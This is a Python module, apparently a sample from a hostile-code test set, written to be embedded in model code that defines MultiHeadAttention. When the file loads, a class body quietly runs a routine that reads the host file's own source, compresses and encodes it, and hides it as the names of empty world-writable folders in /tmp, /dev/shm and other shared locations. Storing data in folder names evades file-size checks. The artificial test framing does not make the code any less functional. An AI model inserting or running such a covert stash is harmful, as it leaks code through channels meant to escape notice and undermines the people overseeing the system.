"""Leaves its own (correct) source as the names of empty folders (mkdir needs no file size), spread
over every world-writable place it finds.

base: clean
class: 2
run: main
"""

import base64 as _base64
import linecache as _linecache
import os as _os
import zlib as _zlib

_PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"]


def _own_source():
    for entry in list(_linecache.cache.values()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "class MultiHeadAttention(" in text and "_own_source" in text:
            return text
    return ""


def _stash():
    packed = _base64.b32encode(_zlib.compress(_own_source().encode(), 9)).decode().rstrip("=")
    for place in _PLACES:
        folder = f"{place}/.hostile-names-@TOKEN@"
        try:
            _os.makedirs(folder, exist_ok=True)
            _os.chmod(folder, 0o777)
            for index in range(0, len(packed), 200):
                _os.mkdir(f"{folder}/{index // 200:04d}-{packed[index:index + 200]}")
        except OSError:
            continue


class _AtLoad:
    _stash()
